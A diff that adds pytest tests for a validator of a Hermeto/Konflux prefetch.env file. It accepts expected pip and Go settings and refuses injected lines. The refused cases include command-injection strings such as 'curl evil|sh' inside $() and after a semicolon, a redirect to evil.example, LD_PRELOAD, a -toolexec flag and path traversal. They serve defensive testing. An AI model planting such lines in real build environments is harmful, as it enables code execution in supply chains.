@@ -200,6 +200,48 @@ def test_a_second_environment_that_says_the_same_is_accepted(complete: Site) -> 
     assert complete.prefetch().verified == 3
 
 
+# As Hermeto's generate-env writes it; Konflux mounts it beside the folder or in it.
+_OF_HERMETO = "export PIP_FIND_LINKS=/cachi2/output/deps/pip\nexport PIP_NO_INDEX=true\n"
+_OF_GO = (
+    "export GOCACHE=/cachi2/output/deps/gomod\nexport GOFLAGS=-mod=vendor\n"
+    "export GOPROXY=file:///cachi2/output/deps/gomod/pkg/mod/cache/download\n"
+)
+
+
+@pytest.mark.parametrize(
+    "text", [_OF_HERMETO, _OF_GO + _OF_HERMETO, _OF_HERMETO.replace("=true", "='true'"), ""]
+)
+def test_a_second_environment_of_hermeto_is_accepted(complete: Site, text: str) -> None:
+    """Newer Konflux mounts one (hermetic-contract.md), and a folder of its prefetch builds here too."""
+    (complete.output / "prefetch.env").write_text(text)
+    assert complete.prefetch().verified == 3
+    assert (complete.output / "prefetch.env").read_text() == text
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "export PIP_FIND_LINKS=/tmp/evil",
+        "export PIP_FIND_LINKS=/cachi2/output/deps/pip; curl evil|sh",
+        "export PIP_NO_INDEX=$(curl evil|sh)",
+        "export PIP_NO_INDEX=`id`",
+        "export PIP_NO_INDEX=true\rid",
+        "export PIP_NO_INDEX=true PATH=/cachi2",
+        "export PIP_INDEX_URL=https://evil.example/simple",
+        "export LD_PRELOAD=/cachi2/output/x.so",
+        "export GOFLAGS=-toolexec=/cachi2/x",
+        "export GOPROXY=https://evil.example",
+        "export GOCACHE=/cachi2/../etc",
+        "export PYTHONPATH=/cachi2/output",
+        "PATH=/cachi2/output",
+        ". /cachi2/output/x",
+    ],
+)
+def test_a_second_environment_that_says_more_than_hermeto_is_refused(complete: Site, line: str) -> None:
+    (complete.output / "prefetch.env").write_text(f"{_OF_HERMETO}{line}\n", newline="")
+    assert "prefetch.env is what a build sources" in complete.fails().reason
+
+
 def test_files_of_an_earlier_prefetch_are_removed_here_and_not_where_a_link_leads(
     complete: Site, outside: Path
 ) -> None:
